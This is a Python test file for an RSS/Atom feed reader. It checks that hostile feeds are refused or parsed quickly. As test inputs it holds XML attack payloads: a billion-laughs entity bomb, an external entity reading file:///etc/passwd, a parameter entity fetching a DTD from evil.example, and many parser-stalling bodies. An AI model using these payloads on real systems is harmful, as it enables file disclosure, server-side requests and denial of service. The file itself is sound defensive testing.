"""Feeds that were made to do harm: none of them is let in far, opens a file, or keeps the reader busy."""

from __future__ import annotations

import socket
import time
from collections.abc import Mapping
from contextlib import suppress
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from listkeeper.foundation.errors import Invalid
from listkeeper.rendering.feeds import feed, feed_text

_BASE = "https://shop.example/news/feed.xml"
_RSS = "application/rss+xml"


def _rss(*items: str) -> bytes:
    inside = "".join(f"<item>{item}</item>" for item in items)
    return f"<rss version='2.0'><channel><title>News</title>{inside}</channel></rss>".encode()


def _read(body: bytes, content_type: str = _RSS) -> feed.Feed:
    return feed.read(body, content_type, _BASE)


def _refusal(body: bytes) -> str:
    with pytest.raises(Invalid) as refused:
        _read(body)
    assert refused.value.code == "feed_unreadable"
    assert "Nothing was changed" in refused.value.message
    return refused.value.message


@pytest.mark.parametrize(
    "encoding", ["punycode", "idna", "utf-7", "zip", "rot13", "unicode_escape", "raw_unicode_escape", "undefined"]
)
def test_a_stranger_chooses_no_slow_or_strange_codec(encoding: str) -> None:
    body = f"<?xml version='1.0' encoding='{encoding}'?>".encode() + _rss("<title>+ADw- -a \\x41</title>")
    begun = time.process_time()
    assert _read(body + b"<!--" + b"-" * 500_000, f"text/xml; charset={encoding}").items[0].title == "+ADw- -a \\x41"
    assert time.process_time() - begun < 1


def test_a_long_feed_is_read_from_both_ends_and_at_once() -> None:
    newest = "<title>Newest</title><pubDate>10 Nov 2026 10:00 GMT</pubDate>"
    old = [f"<title>Old {i}</title><guid>{i}</guid><pubDate>1 May 2020 10:00 GMT</pubDate>" for i in range(10_000)]
    for body in (_rss(newest, *old), _rss(*old, newest)):
        begun = time.process_time()
        read = _read(body)
        assert time.process_time() - begun < 2
        assert read.items[0].title == "Newest"
        assert (len(read.items), read.left_out) == (feed_text.MOST_ITEMS, 10_001 - feed_text.MOST_ITEMS)


@pytest.mark.parametrize(
    "prolog",
    [
        '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!-- <rss> --><!DOCTYPE l [<!ENTITY % a SYSTEM "https://evil.example/a.dtd"> %a;]>',
        '<!doctype l [<!ENTITY a "' + "ha" * 50_000 + '">]>',
    ],
)
def test_entities_of_its_own_are_refused(prolog: str) -> None:
    for encoding in ("utf-8", "utf-16"):
        body = prolog + "<rss version='2.0'><channel><item><title>&a;&b;</title></item></channel></rss>"
        assert "declarations of its own" in _refusal(body.encode(encoding))


def test_an_old_document_type_without_declarations_is_passed_over() -> None:
    head = b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "https://x.example/rss-0.91.dtd">'
    assert _read(head + _rss("<title>Tea</title>")).items[0].title == "Tea"


def _hostile() -> Mapping[str, bytes]:
    """Feeds that are made to keep a parser busy: long enough to tell what grows with the square of their length."""
    most = 400_000

    def fill(unit: str, less: int = 0) -> str:
        return unit * ((most - less) // len(unit))

    names = " ".join(f"xmlns:a{i}='u{i}'" for i in range(16_000))
    inside = {
        "elements in elements": "<a>" * 90 + fill("<b/>", 1000) + "</a>" * 90,
        "open for ever": fill("<item>"),
        "angle brackets": fill("<"),
        "ampersands": fill("&"),
        "a comment without end": "<!--" + fill("-"),
        "names": f"<item {names}/>",
        "an author": f"<item><title>x</title><author>{fill('a@', 100)}</author></item>",
        "a date": f"<item><title>x</title><pubDate>{fill('1 ', 100)}</pubDate></item>",
        "prefixes": "".join(f"<p{i}:x/>" for i in range(20_000)),
        "a text in many pieces": f"<item><title>{fill('<![CDATA[a]]>', 100)}</title></item>",
    }
    made = {name: f"<rss version='2.0'><channel>{text}</channel></rss>".encode() for name, text in inside.items()}
    return {
        **made,
        "no letters": b"<rss><channel>" + b"\xff\x00" * (most // 2),
        "document types": fill("<!DOCTYPE a>").encode(),
    }


_HOSTILE = _hostile()


@pytest.mark.parametrize("name", _HOSTILE)
def test_nothing_keeps_the_reader_busy(name: str) -> None:
    begun = time.process_time()
    with suppress(Invalid):
        assert len(_read(_HOSTILE[name]).items) <= feed_text.MOST_ITEMS
    assert time.process_time() - begun < 1


def test_what_is_larger_than_2_mb_is_refused_unread() -> None:
    assert "larger than 2 MB" in _refusal(b"x" * (feed.MOST_BYTES + 1))


@pytest.mark.parametrize("body", [b"", b" ", b"{}", b"\x89PNG\r\n", b"<svg/>", b"<opml/>", b"<!-- ", b"<?xml", b"<"])
def test_what_is_no_feed_says_so(body: bytes) -> None:
    assert "no RSS or Atom" in _refusal(body)


def test_a_web_page_names_the_feed_that_was_meant() -> None:
    link = "<link rel='alternate' type='application/atom+xml' href='/atom.xml'>"
    page = "<!DOCTYPE html><html><head><title>Shop</title>{}</head><body><p>Tea</body></html>"
    assert "https://shop.example/atom.xml" in _refusal(page.format(link).encode())
    assert "names no feed" in _refusal(page.format("").encode())
    assert "names no feed" in _refusal(page.format(link.replace("/atom.xml", "javascript:x")).encode())


def test_the_name_of_a_file_or_site_is_never_opened(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    secret = tmp_path / "secret.xml"
    secret.write_bytes(_rss("<title>Secret</title>"))

    def refuse(*_: object) -> None:
        raise AssertionError

    monkeypatch.setattr(socket.socket, "connect", refuse)
    for body in (str(secret), secret.as_uri(), "http://127.0.0.1/feed"):
        assert "no RSS or Atom" in _refusal(body.encode())


@given(st.binary(max_size=400), st.text(max_size=40))
def test_no_bytes_at_all_make_it_stumble(body: bytes, content_type: str) -> None:
    for whole in (body, b"<rss><channel><item><title>" + body, _rss("<title>a</title>")[: len(body)] + body):
        with suppress(Invalid):
            _read(whole, content_type)
